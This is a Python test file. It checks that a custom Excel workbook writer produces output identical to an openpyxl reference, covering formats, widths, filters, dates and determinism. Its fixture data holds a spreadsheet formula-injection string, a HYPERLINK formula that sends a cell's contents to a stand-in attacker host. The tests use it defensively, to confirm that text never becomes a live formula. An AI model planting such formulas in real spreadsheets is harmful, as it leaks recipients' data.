"""The client workbook writer (kamtools.excel.workbook_bytes) against a plain openpyxl reference.

workbook_bytes writes the sheet XML itself (openpyxl's cell objects cost ~30 µs a cell on the
run's critical chain). The reference below builds the same table the straightforward way, with
openpyxl's Workbook API, as kamtools did before; both workbooks are read back with openpyxl and
compared cell by cell: value and its type, cell type, number format, font, fill, alignment, plus
sheet name, column widths, frozen header, filter and the filter's defined name.
"""

from __future__ import annotations

import datetime
import io as stdio
import zipfile

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from kamtools.excel import (
    DATE_FORMAT,
    INTEGER_FORMAT,
    MAX_WIDTH,
    MONEY_FORMAT,
    NUMBER_FORMAT,
    PERCENT_FORMAT,
    _cell_value,
    _plain_kind,
    column_kind,
    column_label,
    sheet_title,
    workbook_bytes,
)


def reference_workbook(frame: pd.DataFrame, *, title: str, formatted: bool, currency: str = "") -> bytes:
    """The workbook as openpyxl's Workbook API writes it, cell by cell (the plain way)."""
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    columns = [c for c in frame.columns if not (formatted and str(c).startswith("_"))]
    kinds = {c: column_kind(c, frame[c]) if formatted else _plain_kind(frame[c]) for c in columns}
    book = Workbook()
    sheet = book.active
    sheet.title = sheet_title(title)
    headers = [column_label(c, kinds[c], currency) if formatted else str(c) for c in columns]
    sheet.append(headers)
    formats = {"money": MONEY_FORMAT, "percent": PERCENT_FORMAT, "integer": INTEGER_FORMAT}
    formats |= {"number": NUMBER_FORMAT, "date": DATE_FORMAT}
    widths = [len(h) for h in headers]
    for record in frame[columns].itertuples(index=False, name=None):
        sheet.append([_cell_value(v, kinds[c]) for c, v in zip(columns, record, strict=True)])
    for number, column in enumerate(columns, start=1):
        for (cell,) in sheet.iter_rows(min_row=2, min_col=number, max_col=number):
            if isinstance(cell.value, str):
                cell.data_type = "s"
                widths[number - 1] = max(widths[number - 1], len(cell.value))
            elif cell.value is not None and formatted:
                cell.number_format = formats.get(kinds[column], "General")
                widths[number - 1] = max(widths[number - 1], 14 if kinds[column] == "money" else 10)
    for cell in sheet[1]:
        cell.data_type = "s"
    if formatted:
        sheet.freeze_panes = "A2"
        sheet.auto_filter.ref = sheet.dimensions
        for cell in sheet[1]:
            cell.font = Font(bold=True)
            cell.fill = PatternFill("solid", fgColor="E8EEF4")
            cell.alignment = Alignment(wrap_text=True, vertical="top")
        for number, width in enumerate(widths, start=1):
            sheet.column_dimensions[get_column_letter(number)].width = min(MAX_WIDTH, width + 2)
    buffer = stdio.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def described(data: bytes) -> dict:
    """Everything a client sees of a one-sheet workbook, as openpyxl reads it."""
    book = load_workbook(stdio.BytesIO(data))
    (sheet,) = book.worksheets
    cells = [
        (
            cell.coordinate,
            cell.value,
            type(cell.value).__name__,
            cell.data_type,
            cell.number_format,
            bool(cell.font.b),
            cell.fill.fill_type,
            cell.fill.fgColor.rgb if cell.fill.fill_type else None,
            cell.alignment.wrap_text,
            cell.alignment.vertical,
        )
        for row in sheet.iter_rows()
        for cell in row
    ]
    return {
        "sheets": book.sheetnames,
        "cells": cells,
        "dimensions": sheet.dimensions,
        "freeze_panes": sheet.freeze_panes,
        "filter": sheet.auto_filter.ref,
        "filter name": {name: value.value for name, value in sheet.defined_names.items()},
        "widths": {key: (dim.width, dim.customWidth) for key, dim in sheet.column_dimensions.items()},
    }


def mixed_table() -> pd.DataFrame:
    """Every kind of column the stages write, with the awkward values clients' data hold."""
    names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+SUM(1,2)",
        "  Müller & Söhne <GmbH>  ",
        "#N/A",
        "",
        "Ünïcødé ✓ " + "long name " * 8,
        None,
    ]
    return pd.DataFrame(
        {
            "customer_id": ["C1", "C2", "C3", "C4", "C5", "C6", None],
            "name": names,
            "tier": pd.array(["key", "growth", None, "key", "other", "key", None], dtype="string"),
            "rank": [1, 2, 3, 4, 5, 6, 7],
            "score": [75.689209, 61.25, np.nan, 0.0, -3.5, 1e-9, np.nan],
            "sales": [1234567.891, 98765.4321, -0.004, np.nan, 1e12, 0.1 + 0.2, np.nan],
            "margin": [0.2345678, 0.18, np.nan, -0.5, 1.0, 0.08210000001, np.nan],
            "orders": pd.array([3, None, 1, 0, 12, 7, None], dtype="Int64"),
            "overridden": [True, False, True, False, False, True, False],
            "invoice_date": pd.to_datetime(
                ["2026-03-31", "1900-01-15", None, "2024-02-29", "2026-12-01", "1999-12-31", None]
            ),
            "_order": [1, 2, 3, 4, 5, 6, 7],
        }
    )


@pytest.mark.parametrize("formatted", [True, False], ids=["client", "plain"])
@pytest.mark.parametrize(
    "frame",
    [
        pytest.param(mixed_table(), id="mixed"),
        pytest.param(mixed_table().head(0), id="no-rows"),
        pytest.param(pd.DataFrame({"sales": [1.5, 2.5], "name": ["a", "b"]}), id="small"),
    ],
)
def test_workbook_is_the_one_openpyxl_writes(frame, formatted):
    title = "O'Brien & Co: key/accounts"
    ours = workbook_bytes(frame, title=title, formatted=formatted, currency="EUR")
    reference = reference_workbook(frame, title=title, formatted=formatted, currency="EUR")
    assert described(ours) == described(reference)


def test_every_text_is_a_string_cell_never_a_formula():
    data = workbook_bytes(mixed_table(), title="t")
    sheet = load_workbook(stdio.BytesIO(data)).active
    texts = [cell for cell in sheet["B"] if cell.value is not None]
    assert {cell.data_type for cell in texts} == {"s"}
    assert texts[1].value == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert sheet["B4"].value == "  Müller & Söhne <GmbH>  "
    # Excel drops the spaces around a text unless the cell says to keep them.
    with zipfile.ZipFile(stdio.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert '<t xml:space="preserve">  Müller &amp; Söhne &lt;GmbH&gt;  </t>' in xml


def test_the_same_table_gives_the_same_bytes():
    assert workbook_bytes(mixed_table(), title="t") == workbook_bytes(mixed_table(), title="t")


def test_dates_are_excel_dates_with_their_format():
    sheet = load_workbook(stdio.BytesIO(workbook_bytes(mixed_table(), title="t"))).active
    assert sheet["J2"].value == datetime.datetime(2026, 3, 31)
    assert sheet["J3"].value == datetime.datetime(1900, 1, 15)
    assert sheet["J2"].number_format == DATE_FORMAT


def test_a_control_character_names_its_row_and_column():
    frame = pd.DataFrame({"customer_id": ["C1", "C2"], "name": ["Alpha", "Be\x0bta"]})
    with pytest.raises(ValueError, match=r"sheet 'Key accounts', row 3, column 'Name': .*'\\x0b'"):
        workbook_bytes(frame, title="key_accounts")
